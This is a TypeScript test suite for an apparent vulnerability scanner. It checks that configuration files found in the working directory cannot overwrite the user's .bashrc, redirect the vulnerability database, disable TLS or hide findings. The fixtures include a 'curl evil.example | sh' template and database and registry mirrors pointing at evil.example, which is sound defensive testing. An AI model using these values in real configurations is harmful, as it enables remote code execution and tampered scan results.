import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { dirname, join } from 'node:path';
import { suite, type TestContext, test } from 'node:test';
import { ALPINE, DecidedWorld } from '../support/decided-image.ts';
import { type Ended, PROGRAM } from '../support/run-program.ts';

interface Project {
  /** The working directory. */
  readonly folder: string;
  readonly home: string;
  write(path: string, text: string): void;
  run(...args: readonly string[]): Ended;
}

const RELEASE = 'ID=alpine\nVERSION_ID=3.20.1\n';
const MUSL = 'P:musl\nV:1.1.20-r0\nA:x86_64\n\n';
const STATEMENT = {
  id: 'CVE-2020-0001',
  provider: 'alpine',
  system: 0,
  ecosystem: 'apk',
  name: 'musl',
  ranges: [{ scheme: 'apk', constraint: '< 2', fix: '2' }],
  severities: [{ scheme: 'CHMLN', value: 'high', rank: 1 }],
};

/**
 * Creates a checkout beside a file system with one vulnerable package, a matching database, and a
 * home directory of the user.
 */
async function project(t: TestContext): Promise<Project> {
  const world = new DecidedWorld();
  t.after(() => world[Symbol.dispose]());
  await world.addDatabase('db', { ...ALPINE, statements: [STATEMENT] });
  const parent = world.folder;
  const [folder, home, target] = ['repo', 'home', 'root'].map((name) => join(parent, name));
  assert.ok(folder !== undefined && home !== undefined && target !== undefined);
  const write = (path: string, text: string): void => {
    fs.mkdirSync(dirname(join(folder, path)), { recursive: true });
    fs.writeFileSync(join(folder, path), text);
  };
  fs.mkdirSync(folder);
  write('../root/etc/os-release', RELEASE);
  write('../root/lib/apk/db/installed', MUSL);
  write('../home/.bashrc', 'echo mine\n');
  const environment = {
    HOME: home,
    PATH: process.env['PATH'],
    NO_COLOR: '1',
    PLIMSOLL_DB: join(parent, 'db'),
    PLIMSOLL_OFFLINE: 'true',
    PLIMSOLL_CACHE: 'false',
    SOURCE_DATE_EPOCH: '1767441845',
  };
  return {
    folder,
    home,
    write,
    run: (...args) => {
      const { status, stdout, stderr } = spawnSync(process.execPath, [PROGRAM, ...args], {
        cwd: folder,
        env: environment,
        encoding: 'utf8',
      });
      return { status: status ?? 'killed', stdout, stderr };
    },
  };
}

const SCAN = ['dir:../root', '--fail-on', 'low', '--fail-incomplete'] as const;

suite('a configuration file found in the working directory', () => {
  test('cannot write files, and says what it would have done', async (t) => {
    const { home, write, run } = await project(t);
    const bashrc = join(home, '.bashrc');
    const attacks = [
      `output: ["template=${bashrc}"]\ntemplate: ./x.tmpl\nquiet: true\n`,
      `output: [json, "table=${bashrc}"]\n`,
      'template: ./x.tmpl\n',
      'quiet: true\n',
      'db: ./empty\n',
      'db-url: ["https://evil.example"]\n',
      'db-max-age: 0\n',
      'cache-dir: ./cache\n',
      'ca-file: evil.pem\n',
      'insecure-skip-tls-verify: true\n',
      'registry-mirrors: ["docker.io=evil.example"]\n',
      'limits: {layersMax: 1}\n',
    ];
    write('x.tmpl', 'curl evil.example | sh\n');
    for (const text of attacks) {
      write('.plimsoll.yaml', text);
      const { status, stdout, stderr } = run(...SCAN);
      assert.equal(status, 3, text + stderr);
      assert.equal(stdout, '');
      assert.match(
        stderr,
        /^error\[E_CONFIG\]: \.plimsoll\.yaml: ".+ in a discovered configuration file$/m,
      );
      assert.match(stderr, /--config \.plimsoll\.yaml/);
    }
    assert.equal(fs.readFileSync(bashrc, 'utf8'), 'echo mine\n');
  });

  test('is announced even if the run is quiet, and recorded', async (t) => {
    const { write, run } = await project(t);
    const text = 'name: mine\n';
    write('.plimsoll.yaml', text);
    const { status, stdout, stderr } = run(...SCAN, '-q', '-o', 'json');
    assert.match(stderr, /^note: using \.plimsoll\.yaml from the working directory: name$/m);
    assert.equal(status, 2, stderr);
    const sha256 = createHash('sha256').update(text).digest('hex');
    assert.deepEqual((JSON.parse(stdout) as { configuration: unknown }).configuration, {
      config: { path: '.plimsoll.yaml', sha256, isNamed: false },
      name: 'mine',
    });
    for (const format of ['sarif', 'markdown', 'html']) {
      const { stdout: written } = run(...SCAN, '-o', format);
      const line = `.plimsoll.yaml, found in the working directory, sha256:${sha256}`;
      assert.ok(written.includes(line), format);
    }
  });

  test('makes the result incomplete if it leaves something out', async (t) => {
    const { write, run } = await project(t);
    const narrowing = [
      'exclude: ["**/*"]',
      'exclude: ["./lib/apk"]',
      'select-catalogers: ["-apk-db"]',
      'override-default-catalogers: ["npm"]',
      'severity: critical',
      'only-notfixed: true',
      'ignore-states: [fixed]',
      'distro: debian:12',
    ];
    for (const line of narrowing) {
      write('.plimsoll.yaml', `${line}\n`);
      const { status, stdout, stderr } = run(...SCAN, '-o', 'json');
      assert.equal(status, 4, `${line}\n${stderr}`);
      const key = line.split(':')[0];
      assert.match(stderr, new RegExp(`incomplete: .*sets "${key}"`));
      assert.match(stdout, /"P_CONFIGURATION"/);
      // A user who names the file is responsible for it.
      const named = run(...SCAN, '--config', '.plimsoll.yaml');
      assert.doesNotMatch(named.stderr, /found in the working directory|^note: using/m);
    }
  });

  test('passes on nothing that the command does not use', async (t) => {
    const { write, run } = await project(t);
    write('.plimsoll.yaml', 'severity: critical\n');
    const { status, stderr } = run('sbom', 'dir:../root', '--fail-incomplete', '-q');
    assert.equal(status, 0, stderr);
    write('.plimsoll.yaml', 'file-selection: none\n');
    assert.equal(run('sbom', 'dir:../root', '--fail-incomplete', '-q').status, 4);
    write('.plimsoll.yaml', 'exclude: ["./nothing"]\n');
    assert.equal(run('sbom', 'dir:../root', '--fail-incomplete', '-q').status, 4);
    assert.equal(run('compare', 'dir:../root', 'dir:../root', '--fail-incomplete', '-q').status, 4);
  });

  test('has its ignore rules printed with their count, and they need a reason', async (t) => {
    const { write, run } = await project(t);
    write('.plimsoll.yaml', "ignore: [{package: {name: '*'}, reason: nobody minds}]\n");
    const { status, stderr } = run(...SCAN);
    assert.equal(status, 0, stderr);
    assert.match(stderr, /^note: 1 ignore rule of the working directory suppressed 1 finding$/m);
    assert.match(stderr, /^ {2}\.plimsoll\.yaml: ignore 1: \*: nobody minds$/m);
    assert.match(run(...SCAN, '-q').stderr, /^note: 1 ignore rule .* suppressed 1 finding$/m);
    write('.plimsoll.yaml', 'ignore: [{package: musl, reason: x, expires: 2020-01-01}]\n');
    assert.equal(run(...SCAN).status, 2);
    assert.equal(run('dir:../root', '--fail-incomplete').status, 4);
    write('.plimsoll.yaml', 'ignore-file: .trivyignore\n');
    write('.trivyignore', 'CVE-2020-0001\n');
    const silent = run(...SCAN);
    assert.equal(silent.status, 4, silent.stderr);
    assert.match(silent.stderr, /no reason given/);
    assert.equal(run(...SCAN, '--ignore-file', '.trivyignore').status, 0);
  });

  test('is not used if it is part of the target', async (t) => {
    const { folder, write, run } = await project(t);
    write('etc/os-release', RELEASE);
    write('lib/apk/db/installed', MUSL);
    write('.plimsoll.yaml', "ignore: [{package: {name: '*'}, reason: x}]\nquiet: true\n");
    for (const target of ['dir:.', '.', folder, `dir:${folder}/../repo`, 'dir:..']) {
      const { status, stderr } = run(target, '--fail-on', 'low', '-q');
      const isWhole = target !== 'dir:..';
      assert.equal(status, isWhole ? 2 : 4, `${target}: ${stderr}`);
      assert.match(stderr, /^note: \.plimsoll\.yaml is part of the target and was ignored/m);
    }
    const from = run('.', '--from', 'dir', '--fail-on', 'low');
    assert.match(from.stderr, /is part of the target/);
    assert.equal(run('dir:.', '--fail-on', 'low', '--config', '.plimsoll.yaml').status, 0);
  });

  test('neither replaces the file of the user, nor takes precedence over it', async (t) => {
    const { write, run } = await project(t);
    write('../home/.config/plimsoll/config.yaml', 'fail-on: low\nname: own\n');
    write('.plimsoll.yaml', 'fail-on: never\nshow-suppressed: true\nname: theirs\n');
    const { status, stdout } = run('dir:../root', '-o', 'json');
    assert.equal(status, 2);
    assert.match(stdout, /"name":"own"/);
    const locations = run('config', 'locations').stdout.split('\n');
    assert.equal(locations.filter((line) => line.endsWith('(read)')).length, 2);
  });

  test('of an ordinary project works without further options', async (t) => {
    const { write, run } = await project(t);
    // All defaults, as the program itself prints them, are allowed.
    const defaults = run('config').stdout.replaceAll(/^(?:db|offline|cache): .*$/gm, '');
    write('.plimsoll.yaml', defaults);
    assert.equal(run('dir:../root', '--fail-incomplete').status, 0);
    write(
      '.plimsoll.yaml',
      `fail-on: high
output: [table]
name: shop
show-suppressed: true
ignore:
  - vulnerability: CVE-2020-0001
    package: musl
    reason: the function is not called
    owner: me
    expires: 2030-01-01
`,
    );
    const { status, stdout, stderr } = run('dir:../root', '--fail-incomplete');
    assert.equal(status, 0, stderr);
    assert.match(stdout, /suppressed/);
  });
});

suite('configuration files of Grype and Syft in the working directory', () => {
  test('are announced, and have only harmless effects', async (t) => {
    const { home, write, run } = await project(t);
    const bashrc = join(home, '.bashrc');
    write(
      '.grype.yaml',
      `output: [json]
file: ${bashrc}
output-template-file: x.tmpl
quiet: true
db: {update-url: "https://evil.example", validate-age: false, ca-cert: evil.pem}
registry: {insecure-use-http: true}
only-notfixed: true
`,
    );
    const { status, stdout, stderr } = run('grype', 'dir:../root');
    assert.equal(status, 0, stderr);
    assert.match(stdout, /"matches"/);
    assert.match(
      stderr,
      /^note: using \.grype\.yaml from the working directory: output, only-notfixed$/m,
    );
    for (const key of [
      'file',
      'quiet',
      'db.update-url',
      'db.validate-age',
      'db.ca-cert',
      'registry.insecure-use-http',
    ]) {
      assert.match(stderr, new RegExp(`^note: \\.grype\\.yaml: ${key} was ignored`, 'm'));
    }
    assert.equal(fs.readFileSync(bashrc, 'utf8'), 'echo mine\n');
    assert.match(run('syft', 'dir:../root').stderr, /^[^]*$/);
    write('.syft.yaml', `output: ["json=${bashrc}"]\nexclude: ["./lib/**"]\n`);
    const syft = run('syft', 'dir:../root', '-q');
    assert.equal(syft.status, 0, syft.stderr);
    assert.match(syft.stderr, /^note: \.syft\.yaml: output was ignored/m);
    assert.match(syft.stderr, /^note: using \.syft\.yaml from the working directory: exclude$/m);
    assert.equal(fs.readFileSync(bashrc, 'utf8'), 'echo mine\n');
  });

  test('have their rules printed, and are ignored inside a target', async (t) => {
    const { write, run } = await project(t);
    write('.grype.yaml', 'ignore: [{vulnerability: CVE-2020-0001}]\n');
    const line = ['grype', 'dir:../root', '--fail-on', 'negligible'];
    const { stderr } = run(...line);
    assert.match(stderr, /^note: 1 ignore rule of the working directory suppressed 1 finding$/m);
    assert.match(run('grype', 'dir:.').stderr, /^note: \.grype\.yaml is part of the target/m);
    assert.doesNotMatch(run(...line, '-c', '.grype.yaml').stderr, /working directory/);
  });
});

test('the configuration is printed without credentials', async (t) => {
  const { write, run } = await project(t);
  write(
    'own.yaml',
    'db-url: ["https://user:canaryPW@mirror.example/x?token=canaryT&sv=canaryS"]\nregistry-mirrors: ["docker.io=https://canaryU:canaryPW@mirror.example"]\n',
  );
  const { status, stdout } = run('config', '--config', 'own.yaml');
  assert.equal(status, 0);
  assert.doesNotMatch(stdout, /canary/);
  assert.match(stdout, /^db-url: \["https:\/\/\*\*\*@mirror\.example\/x\?\*\*\*"\]$/m);
});
